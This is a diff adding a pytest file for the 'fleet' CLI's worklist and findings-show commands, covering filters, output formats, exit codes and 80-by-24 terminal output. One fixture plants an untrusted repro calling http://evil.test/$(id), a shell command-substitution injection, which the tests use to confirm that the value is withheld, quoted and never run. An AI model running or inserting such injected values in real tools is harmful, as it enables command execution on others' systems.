@@ -1,0 +1,287 @@
+"""`fleet worklist` and `fleet findings show` over a list on disk: filters, formats, age, and 80 by 24."""
+
+from __future__ import annotations
+
+import fcntl
+import json
+import os
+import pty
+import re
+import struct
+import subprocess
+import sys
+import termios
+from dataclasses import replace
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import anyio
+import pytest
+from typer.testing import CliRunner, Result
+
+from fleet.cli import findings, worklist
+from fleet.cli.fresh_worklist import age
+from fleet.clock import iso
+from fleet.findings.repro import ReproCall, write_repro
+from fleet.store.journal import Journal
+from fleet.store.rows import DecisionRow, LogEntry
+from fleet.triage.life import Stage
+from fleet.triage.outputs.document import LogPosition, WorklistHeader
+from fleet.triage.outputs.files import save
+from fleet.triage.worklist import ItemLink, RankFactor, WorklistItem
+from tests.triage.outputs.test_formats import OWN, TEXTS, item
+
+GOLDEN = Path(__file__).parent / "golden"
+AT = "2026-11-21T22:51:10Z"
+HEADER = WorklistHeader(platform="devnet", as_of=LogPosition(0, 42, AT))
+FETCH = write_repro([ReproCall("qa_fetch", {"url": "http://site.test/llms.txt"})])
+
+
+def own(number: int, title: str, **more: Any) -> WorklistItem:
+    made = item(
+        number, title, **OWN | {"surface": "ux", "links": (), "reason": "", "stuck": "", "why": "why"}
+    )
+    return replace(made, **more)
+
+
+ITEMS = (
+    own(
+        1,
+        "GET {site}/llms.txt: 500, expected the guide that every agent reads first, in plain text",
+        fingerprint="abcdef012345",
+        names=("abcdef012345", "00ff00ff00ff"),
+        severity="critical",
+        surface="security",
+        repro=FETCH,
+        since=AT,
+        entry=3,
+        days=2,
+        count=4,
+        stuck="a run that can look at it",
+        stages=(Stage("new", AT, "qa-ux"), Stage("confirmed", AT, "3 of 3")),
+        factors=(RankFactor("severity", "critical", 8.0, "qa-ux"),),
+        links=(ItemLink("same-cause", "0" * 12, "the same page", "similarity", suggested=True),),
+    ),
+    *(own(number, f"finding number {number}", fingerprint=f"{number:012x}") for number in range(2, 31)),
+    item(31, TEXTS[7], fingerprint="5" * 12, entry=1, surface="unknown"),
+    own(0, "was fixed", fingerprint="f" * 12, state="verified-fixed", since=AT),
+)
+
+
+@pytest.fixture
+def state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    path = tmp_path / "state"
+    path.mkdir(mode=0o700)
+    save(path, ITEMS, HEADER)
+    monkeypatch.setenv("STATE_DIRECTORY", str(path))
+    return path
+
+
+def call(*words: str, app: Any = worklist.app) -> Result:
+    return CliRunner().invoke(app, list(words))
+
+
+def listed(*words: str) -> list[str]:
+    said = call("--offline", "--json", *words)
+    assert said.exit_code == 0, said.output
+    return [one["fingerprint"] for one in json.loads(said.stdout)]
+
+
+def test_json_is_a_list_of_the_open_items(state: Path) -> None:
+    assert listed() == [one.fingerprint for one in ITEMS if one.rank]
+    assert listed("--limit", "2") == ["abcdef012345", f"{2:012x}"]
+    assert listed("--state", "fixed") == ["f" * 12]
+    assert len(listed("--state", "all")) == len(ITEMS)
+    assert listed("--severity", "critical") == ["abcdef012345"]
+    assert listed("--surface", "security", "-q", "GUIDE") == ["abcdef012345"]
+    assert listed("--since", "2026-11-22") == []
+    assert listed("--new", "--since", "2026-11-21") == listed()
+
+
+@pytest.mark.parametrize(
+    ("words", "why"),
+    [
+        (("--state", "gone"), "choose one of open, fixed, dismissed, snoozed, all"),
+        (("--severity", "worst"), "critical, high, medium, low, info, unknown"),
+        (("--surface", "kitchen"), "compiler, on-chain, perf, security, unknown, ux"),
+        (("--since", "soon"), "write a number and s, m, h, d or w"),
+        (("--csv", "--sarif"), "fleet worklist --help"),
+    ],
+)
+def test_a_wrong_value_is_a_usage_error_that_names_the_valid_ones(
+    state: Path, words: tuple[str, ...], why: str
+) -> None:
+    error = call("--offline", *words).exception
+    assert getattr(error, "exit_code", None) == 2
+    assert why in getattr(error, "remedy", "")
+
+
+@pytest.mark.parametrize(
+    ("option", "begin"),
+    [
+        ("--sarif", '{\n "$schema"'),
+        ("--csv", "rank,fingerprint"),
+        ("--junit", "<?xml"),
+        ("--html", "<!DOCTYPE html>"),
+        ("--digest", "# Since "),
+        ("--schema", '{\n "$schema"'),
+    ],
+)
+def test_every_format_goes_to_stdout(state: Path, option: str, begin: str) -> None:
+    said = call("--offline", option)
+    assert (said.exit_code, said.stdout.startswith(begin)) == (0, True)
+
+
+def test_junit_has_the_closed_items_as_passed(state: Path) -> None:
+    assert 'name="ffffffffffff was fixed"' in call("--offline", "--junit").stdout
+
+
+def test_the_digest_is_a_command_and_an_option(state: Path) -> None:
+    made = json.loads(call("digest", "--offline", "--since", "2026-11-21", "--json").stdout)
+    assert [len(made[name]) for name in ("new", "fixed", "still")] == [31, 1, 0]
+    again = json.loads(call("--offline", "--digest", "--json", "--since", "2026-11-21").stdout)
+    assert again == made
+
+
+def test_exit_code_says_whether_something_is_open(state: Path) -> None:
+    assert call("--offline", "--exit-code").exit_code == 1
+    assert call("--offline", "--exit-code", "--state", "fixed").exit_code == 0
+    assert call("--offline").exit_code == 0
+
+
+def test_without_a_platform_the_old_list_comes_with_a_warning(state: Path) -> None:
+    said = call()
+    assert said.exit_code == 0
+    assert "the list may be older than the log: no platform named 'devnet'" in said.stderr
+    first = said.stdout.splitlines()[0]
+    assert first.startswith(f"as of log entry 41 ({AT}), epoch 0 (")
+    assert first.endswith("old, log not read)")
+    assert "abcdef012345" in said.stdout
+
+
+@pytest.mark.parametrize("text", ["{", '{"schema": 1, "items": []}', '{"schema": 2, "items": 3}'])
+def test_a_list_that_cannot_be_read_is_said(state: Path, text: str) -> None:
+    (state / "worklist.json").write_text(text)
+    said = call("--offline", "--json")
+    assert (said.exit_code, json.loads(said.stdout)) == (0, [])
+    assert "worklist.json: " in said.stderr
+    assert "fleet worklist rebuild" in said.stderr
+
+
+def test_the_age_is_in_one_unit() -> None:
+    now = datetime(2026, 11, 21, 12, tzinfo=UTC)
+    ages = {3: "under a minute old", 60: "1 min old", 7_300: "2 h old", 3 * 86_400: "3 days old"}
+    assert {seconds: age(iso(now - timedelta(seconds=seconds)), now) for seconds in ages} == ages
+    assert age(iso(now + timedelta(hours=1)), now) == "under a minute old"
+    assert age("", now) == ""
+
+
+async def journalled(state: Path) -> None:
+    planted = 'qa/v1 source=x sev=high surface=ux\ntitle\nrepro: qa_fetch(url="http://evil.test/$(id)")'
+    async with await Journal.open(state / "fleet.db") as journal:
+        await journal.mirror(0, 0, [LogEntry("0x" + "11" * 20, 1, text) for text in ("first", planted)])
+        decision = DecisionRow(
+            item="abcdef012345",
+            kind="snooze",
+            reason="after the release",
+            who="ann",
+            at=AT,
+            platform="devnet",
+            name="c" * 12,
+            until="2026-12-01T00:00:00Z",
+        )
+        await journal.add_decision(decision)
+
+
+def shown(*words: str) -> Result:
+    return call("show", *words, app=findings.app)
+
+
+def test_an_item_that_is_only_on_the_log_is_shown(state: Path) -> None:
+    anyio.run(journalled, state)
+    said = shown("00ff", "--json")
+    assert said.exit_code == 0, said.output
+    data = json.loads(said.stdout)
+    assert (data["fingerprint"], data["item"]["rank"]) == ("abcdef012345", 1)
+    assert [one["reason"] for one in data["decisions"]] == ["after the release"]
+    assert data["shell"] == [
+        "curl -sS --globoff --path-as-is --proto =http,https --max-time 30 -i --url http://site.test/llms.txt"
+    ]
+    assert (data["history"], data["evidence_files"]) == ([], [])
+
+
+def test_a_strangers_repro_is_shown_on_demand_and_marked(state: Path) -> None:
+    anyio.run(journalled, state)
+    plain = shown("5555").stdout
+    assert "repro: a stranger's is withheld; --untrusted shows it" in plain
+    assert "evil.test/$" not in plain
+    asked = shown("5555", "--untrusted").stdout
+    assert "a stranger's repro, never run by the fleet: qa_fetch" in asked
+    commands = [line for line in asked.splitlines() if "curl" in line]
+    assert len(commands) == 1
+    assert commands[0].startswith("  # curl ")
+    assert commands[0].endswith("--url 'http://evil.test/$(id)'")
+    assert "\x1b" not in asked
+
+
+def test_what_begins_several_items_is_a_usage_error(state: Path) -> None:
+    error = shown("0000").exception
+    assert getattr(error, "exit_code", None) == 2
+    assert "begins several items" in str(error)
+    assert "no finding 'beef'" in str(shown("beef").exception)
+
+
+def screen(state: Path, *words: str) -> str:
+    """What the command shows on a terminal of 80 columns and 24 lines."""
+    ours, theirs = pty.openpty()
+    fcntl.ioctl(theirs, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 80, 0, 0))
+    environment = {"PATH": os.environ["PATH"], "STATE_DIRECTORY": str(state), "TERM": "dumb"}
+    child = subprocess.Popen(
+        [sys.executable, "-m", "fleet.cli", *words],
+        stdin=subprocess.DEVNULL,
+        stdout=theirs,
+        stderr=theirs,
+        env=environment,
+    )
+    os.close(theirs)
+    found = b""
+    while True:
+        try:
+            part = os.read(ours, 65_536)
+        except OSError:  # the other end is closed
+            break
+        if not part:
+            break
+        found += part
+    os.close(ours)
+    assert child.wait(60) == 0
+    text = found.decode().replace("\r\n", "\n")
+    assert "\x1b]" not in text
+    return re.sub(r"\((\d+ \w+|under a minute) old", "(AGE old", text)
+
+
+def test_no_escape_of_a_stranger_reaches_a_terminal_or_a_pipe(state: Path) -> None:
+    for text in (screen(state, "worklist", "--offline", "-q", "gnp"), call("--offline").stdout):
+        assert "gnp.exe" in text
+        assert [char for char in text if not (char.isprintable() or char in "\n\t")] == []
+
+
+@pytest.mark.parametrize(
+    ("name", "words"),
+    [
+        ("worklist", ("worklist", "--offline")),
+        ("findings-show", ("findings", "show", "abcdef012345")),
+    ],
+)
+def test_golden_at_80_by_24(state: Path, name: str, words: tuple[str, ...]) -> None:
+    anyio.run(journalled, state)
+    text = screen(state, *words)
+    path = GOLDEN / f"{name}.txt"
+    if os.environ.get("UPDATE_GOLDEN"):
+        path.parent.mkdir(exist_ok=True)
+        path.write_text(text)
+    assert text == path.read_text()
+    assert len(text.splitlines()) <= 24
+    if name == "worklist":
+        assert max(map(len, text.splitlines())) <= 80
